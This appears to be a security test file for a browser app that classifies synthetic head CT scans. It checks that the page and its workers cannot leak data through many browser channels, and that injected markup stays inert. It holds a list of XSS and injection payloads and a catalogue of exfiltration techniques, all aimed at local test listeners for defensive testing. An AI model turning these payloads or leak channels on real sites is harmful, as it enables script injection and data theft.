/** Tries to get something out of the page and its workers, in every way that a browser knows, and to get something into it. */
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { cpSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import { PATIENCE_MS, SITE, eventually, openPage, phantom, scratch, serveFolder } from './harness.mjs';

const timeout = PATIENCE_MS;
const scan = () => phantom('bleeding', 'dicom', '--seed', '7', '--bleed', 'intraparenchymal:40');
/** Long enough for a request that is on its way to arrive. */
const ARRIVAL_MS = 1500;

/** Somebody who listens: a server of another origin, and a port for what WebRTC sends. */
async function eavesdropper(t) {
  const heard = new Set();
  const server = createServer(({ url = '' }, response) => {
    heard.add(url.slice(1).split(/[.?]/)[0]);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end();
  });
  server.on('upgrade', ({ url = '' }, socket) => {
    heard.add(url.slice(1));
    socket.destroy();
  });
  const stun = createSocket('udp4').on('message', () => heard.add('webrtc'));
  await Promise.all([
    new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined))),
    new Promise((resolve) => stun.bind(0, '127.0.0.1', () => resolve(undefined))),
  ]);
  t.after(() => {
    server.closeAllConnections();
    server.close();
    stun.close();
  });
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return { heard, host: `127.0.0.1:${port}`, stun: `127.0.0.1:${stun.address().port}` };
}

/** What a page could leak with. Runs in the page; what is refused at once throws, what is refused later is never heard. */
async function leakFromPage({ host, stun }) {
  const to = (name) => `http://${host}/${name}`;
  const element = (tag, attributes) => document.body.appendChild(Object.assign(document.createElement(tag), attributes));
  const link = (rel, href, more = {}) => document.head.appendChild(Object.assign(document.createElement('link'), { rel, href, ...more }));
  // A frame has a scope of its own, untouched.
  const frame = element('iframe', {});
  const ways = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    'fetch-keepalive': () => fetch(to('fetch-keepalive'), { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true }),
    'fetch-of-frame': () => frame.contentWindow.fetch(to('fetch-of-frame'), { mode: 'no-cors' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'));
      request.send();
    },
    beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
    websocket: () => new WebSocket(`ws://${host}/websocket`),
    eventsource: () => new EventSource(to('eventsource')),
    image: () => element('img', { src: to('image') }),
    'image-of-svg': () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', to('image-of-svg'));
      svg.append(image);
      document.body.append(svg);
    },
    audio: () => element('audio', { src: to('audio'), preload: 'auto' }),
    frame: () => element('iframe', { src: to('frame') }),
    object: () => element('object', { data: to('object') }),
    embed: () => element('embed', { src: to('embed') }),
    script: () => element('script', { src: to('script') }),
    import: () => import(to('import')),
    stylesheet: () => link('stylesheet', to('stylesheet')),
    'css-url': () => {
      element('div', {}).style.cssText = `width: 9px; height: 9px; background-image: url(${to('css-url')})`;
    },
    font: () => new FontFace('leak', `url(${to('font')})`).load(),
    prefetch: () => link('prefetch', to('prefetch')),
    preload: () => link('preload', to('preload'), { as: 'fetch', crossOrigin: 'anonymous' }),
    modulepreload: () => link('modulepreload', to('modulepreload')),
    icon: () => link('icon', to('icon')),
    webrtc: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
    },
    form: () => element('form', { action: to('form') }).submit(),
  };
  for (const way of Object.values(ways)) {
    // What is refused later may neither settle nor be heard.
    await Promise.race([(async () => way())().catch(() => {}), new Promise((resolve) => setTimeout(resolve, 100))]);
  }
  return Object.keys(ways);
}

/** Ways for a page to go to an address that tells something. One a page: it is gone afterwards. */
const DEPARTURES = {
  location: (to) => { location.href = to; },
  replace: (to) => location.replace(to),
  anchor: (to) => Object.assign(document.createElement('a'), { href: to }).click(),
  refresh: (to) => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}` })),
  download: (to) => Object.assign(document.createElement('a'), { href: to, download: 'x' }).click(),
};

/** The same in a worker. */
async function leakFromWorker({ host }) {
  const to = (name) => `http://${host}/${name}`;
  const inherited = (name) => {
    for (let owner = Object.getPrototypeOf(globalThis); owner; owner = Object.getPrototypeOf(owner)) if (Object.hasOwn(owner, name)) return owner[name];
    return undefined;
  };
  const ways = {
    fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
    'fetch-of-prototype': () => inherited('fetch').call(globalThis, to('fetch-of-prototype'), { mode: 'no-cors' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'), false);
      request.send();
    },
    websocket: () => new WebSocket(`ws://${host}/websocket`),
    eventsource: () => new EventSource(to('eventsource')),
    font: () => new FontFace('leak', `url(${to('font')})`).load(),
    import: () => import(to('import')),
    'import-scripts': () => importScripts(to('import-scripts')),
    'worker-of-blob': () => new Worker(URL.createObjectURL(new Blob([`fetch('${to('worker-of-blob')}', { mode: 'no-cors' })`]))),
  };
  for (const way of Object.values(ways)) {
    await Promise.race([(async () => way())().catch(() => {}), new Promise((resolve) => setTimeout(resolve, 100))]);
  }
  return Object.keys(ways);
}

/** @returns {string[]} Paths of requests of this kind that Chromium sent, to whomever, as its own log has them. Closes the browser. */
async function sent(opened, kind) {
  await opened.browser.close();
  const log = readFileSync(opened.netLog, 'utf8');
  return [...new Set([...log.matchAll(new RegExp(`(?:GET|POST) (/${kind}/[\\w-]+)`, 'g'))].map(([, path]) => path))];
}

/** Tries every way to the listener and to the page's own server, which may be somebody else's too. */
async function leakEverywhere(opened, spy, leak, where) {
  const tried = await where.evaluate(leak, spy);
  await where.evaluate(leak, { ...spy, host: `${new URL(opened.page.url()).host}/leak` });
  await opened.page.waitForTimeout(ARRIVAL_MS);
  return tried;
}

test('every way out is open where nobody closed it, so that it is tried rightly', { timeout }, async (t) => {
  const spy = await eavesdropper(t);
  const bare = scratch(t);
  writeFileSync(join(bare, 'index.html'), '<!doctype html><body data-phase="ready">open</body>');
  writeFileSync(join(bare, 'worker.js'), 'onmessage = () => {};');
  const serving = await serveFolder(t, bare);
  const opened = await openPage(t, { url: serving.url });
  const own = () => serving.requests.flatMap((path) => /^\/leak\/(.+)/.exec(path)?.[1] ?? []);

  await opened.page.evaluate((address) => { globalThis.kept = new Worker(address); }, `${serving.url}worker.js`);
  await eventually(async () => assert.equal(opened.page.workers().length, 1));
  const inWorker = await leakEverywhere(opened, spy, leakFromWorker, opened.page.workers()[0]);
  assert.deepEqual(inWorker.filter((way) => !spy.heard.has(way)), []);
  spy.heard.clear();

  const ofPage = await opened.page.evaluate(leakFromPage, spy);
  await opened.page.waitForTimeout(ARRIVAL_MS);
  await opened.page.goto(serving.url);
  await opened.page.evaluate(leakFromPage, { ...spy, host: `${new URL(serving.url).host}/leak` });
  await opened.page.waitForTimeout(ARRIVAL_MS);
  assert.deepEqual(ofPage.filter((way) => !spy.heard.has(way) && !own().includes(way)), []);

  for (const [name, depart] of Object.entries(DEPARTURES)) {
    const page = await opened.page.context().newPage();
    await page.goto(serving.url);
    await page.evaluate(depart, `http://${spy.host}/${name}`).catch(() => {});
    await eventually(async () => assert.ok(spy.heard.has(name), name));
  }
});

test('nothing gets out of the page or its workers once it is ready, not even to its own server', { timeout }, async (t) => {
  const spy = await eavesdropper(t);
  const opened = await openPage(t, { backend: 'cpu' });
  const workers = opened.page.workers();
  assert.equal(workers.length, 4, 'the engine and its spares');
  await leakEverywhere(opened, spy, leakFromPage, opened.page);
  for (const worker of workers) await leakEverywhere(opened, spy, leakFromWorker, worker);
  for (const [name, depart] of Object.entries(DEPARTURES)) {
    await opened.page.evaluate(depart, `http://${spy.host}/${name}`);
    await opened.page.evaluate(depart, new URL(`/leak/${name}`, opened.page.url()).href);
  }
  assert.equal(await opened.page.evaluate((to) => globalThis.open?.(to) ?? null, `http://${spy.host}/open`), null);
  await opened.page.waitForTimeout(ARRIVAL_MS);
  assert.deepEqual([...spy.heard], []);

  // None of this harmed it.
  await opened.drop(scan());
  const [answer] = await opened.answers();
  assert.equal(answer.outcome, 'classified');
  // A module of its own server is all that a worker may still ask for, because its policy cannot be changed any more.
  assert.deepEqual(await sent(opened, 'leak'), ['/leak/import']);
});

test('on a host without headers the workers are sealed as well, from the first visit on', { timeout }, async (t) => {
  const spy = await eavesdropper(t);
  const { url, requests } = await serveFolder(t, SITE);
  const opened = await openPage(t, { url, backend: 'cpu' });
  const leaked = async () => {
    for (const worker of opened.page.workers()) await leakEverywhere(opened, spy, leakFromWorker, worker);
    return [...new Set(requests.filter((path) => path.startsWith('/leak/')))];
  };
  assert.deepEqual(await leaked(), ['/leak/import']);
  assert.deepEqual([...spy.heard], []);
  requests.length = 0;
  await opened.page.reload();
  await opened.page.waitForSelector('body[data-phase="ready"]');
  // From the second visit on, the service worker stands before the server.
  assert.deepEqual(await leaked(), []);
  assert.deepEqual([...spy.heard], []);
  for (const worker of opened.page.workers()) assert.equal(await worker.evaluate(() => navigator.locks), undefined);
});

test('no text becomes markup, and no script but those of the page is taken', { timeout }, async (t) => {
  const opened = await openPage(t, { backend: 'cpu' });
  const taken = await opened.page.evaluate(async () => {
    // The tool that runs this may evaluate text, for as long as it runs at once.
    await new Promise((resolve) => setTimeout(resolve));
    const tries = {
      innerHTML: () => { document.body.innerHTML += '<b>x</b>'; },
      write: () => document.write('<b>x</b>'),
      eval: () => globalThis.eval('1'),
      function: () => new Function('return 1'),
      policy: () => /** @type {any} */ (globalThis).trustedTypes.createPolicy('other', {}),
      'same policy': () => /** @type {any} */ (globalThis).trustedTypes.createPolicy('ictus', {}),
      worker: () => new Worker('other.js'),
      'service worker': () => navigator.serviceWorker.register('other.js'),
    };
    return Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
      try {
        await attempt();
        return name;
      } catch {
        return null;
      }
    }));
  });
  assert.deepEqual(taken.filter(Boolean), []);
});

/** Markup of the usual kinds. A file name can hold no slash. */
const MARKUP = ['<img src=x onerror=globalThis.owned=1>', '<svg onload=globalThis.owned=1>', '"><script>globalThis.owned=1<%2fscript>', "' autofocus onfocus=globalThis.owned=1 x='", '{{7*7}}${globalThis.owned=1}', '=HYPERLINK("http:||evil")', 'a\u202Egpj.exe', '__proto__', 'constructor'];

test('names and texts that hold markup stay text, and change nothing but their own row', { timeout }, async (t) => {
  const opened = await openPage(t, { backend: 'cpu' });
  const folder = scratch(t);
  for (const name of MARKUP) {
    mkdirSync(join(folder, name));
    cpSync(scan(), join(folder, name, 'head'), { recursive: true });
  }
  // The description of the series is the name of a scan; its length is part of the file.
  const description = 'SYNTHETIC head CT: a drawing, no patient was scanned';
  const evil = "<img src=x onerror='globalThis.owned=2'><svg/onload=1>".slice(0, description.length).padEnd(description.length);
  const texts = join(folder, 'texts');
  cpSync(scan(), texts, { recursive: true });
  for (const file of readdirSync(texts)) {
    const bytes = readFileSync(join(texts, file), 'latin1');
    assert.ok(bytes.includes(description));
    writeFileSync(join(texts, file), bytes.replace(description, evil).replace('Synthetic^Phantom', '<b>x^<script>1<!-').replace('ictus phantom', '<iframe src=x'), 'latin1');
  }
  for (const name of MARKUP) writeFileSync(join(folder, `${name}.txt`), name);
  for (const name of MARKUP) await opened.drop(join(folder, name));
  await opened.drop(texts);
  for (const name of MARKUP) await opened.drop(join(folder, `${name}.txt`));
  await opened.drop(scan());
  const rows = await opened.answers(2 * MARKUP.length + 2);
  assert.deepEqual(rows.map(({ outcome }) => outcome), [...MARKUP.map(() => 'classified'), 'classified', ...MARKUP.map(() => 'refused'), 'classified']);
  assert.equal(new Set(rows.filter(({ outcome }) => outcome === 'classified').map(({ probability }) => probability)).size, 1);
  // Every room that shows a name.
  for (const row of await opened.page.locator('[data-scan] .row-open').all()) await row.click();
  await opened.page.click('#language');
  await opened.page.click('#engine');
  const strange = await opened.page.evaluate(() => [...document.querySelectorAll('img, iframe, object, embed, script:not([src]), [onerror], [onload], [onfocus], a[href^="javascript"]')].map((element) => element.outerHTML));
  assert.deepEqual(strange, []);
  assert.deepEqual(await opened.page.evaluate(() => [globalThis.owned, /** @type {any} */ ({}).polluted, document.title.includes('ictus')]), [undefined, undefined, true]);
  assert.deepEqual(opened.errors, []);
  assert.deepEqual(await opened.requestsSinceReady(), []);
});

test('the log of requests names every file, who asked for it, and that none was asked for since', { timeout }, async (t) => {
  const { url } = await serveFolder(t, SITE);
  const opened = await openPage(t, { url, backend: 'cpu' });
  await opened.page.click('#open-privacy');
  const log = opened.page.locator('#requests li');
  const by = (who) => opened.page.locator(`#requests li[data-by="${who}"]`).allTextContents();
  await eventually(async () => assert.ok((await by('service')).length > 10));
  assert.ok((await by('page')).some((line) => line.includes('/app.js')));
  assert.ok((await by('worker')).some((line) => line.includes('/pkg/cpu/ictus_bg.wasm')));
  assert.equal(await opened.page.locator('#requests-count strong').textContent(), '0');
  assert.equal(await opened.page.locator('#requests li strong').count(), 0);
  // Whatever the browser saw is in it.
  const listed = (await log.allTextContents()).join('\n');
  for (const { url: seen } of opened.requests.filter(({ request }) => !request.isNavigationRequest() && /^http/.test(request.url()))) {
    assert.ok(listed.includes(seen.slice(url.length)), seen);
  }
});
